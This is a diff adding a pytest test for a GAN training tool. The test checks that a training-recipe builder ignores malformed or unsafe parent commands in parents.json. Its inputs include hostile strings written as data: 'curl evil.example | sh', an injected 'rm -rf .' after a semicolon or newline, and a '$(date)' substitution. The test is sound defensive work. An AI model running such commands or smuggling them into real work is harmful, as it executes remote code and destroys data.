@@ -263,6 +263,20 @@ def test_a_fork_that_kept_no_parents_says_that_they_may_have_changed(tmp_path: P
     assert [i for i, line in enumerate(lines) if "may have changed since" in line] == [0, 2]
 
 
+@pytest.mark.parametrize("line", [
+    "curl evil.example | sh", "python -m gan train --preset own; rm -rf .", 7,
+    "python -m gan train --preset own --set a=$(date)", "# a note of somebody's",
+    "python -m gan train --preset own --data 'folder:/home/me/my secret'",
+    "python -m gan train --preset own\nrm -rf .", "python -m gan push --to somebody",
+    "# settings were changed while it trained; these are the last ones",  # about no command
+])  # fmt: skip
+def test_parents_that_are_not_as_we_write_them_are_not_taken(tmp_path: Path, line: object):
+    third, commands = forked_twice(tmp_path)
+    (tmp_path / "three" / "parents.json").write_text(json.dumps([commands[0], line]))
+    lines = training_recipe(third, nimg=128_000, folder=tmp_path / "three").split("\n")
+    assert [line for line in lines if not line.startswith("# ")] == commands
+
+
 def test_changes_while_it_trained_are_said_beside_the_last_settings(tmp_path: Path):
     run = config_of("fashion")
     rows = [{"nimg": 0, "event": "start"}, {"nimg": 0, "event": "set", "key": "g_lr"},
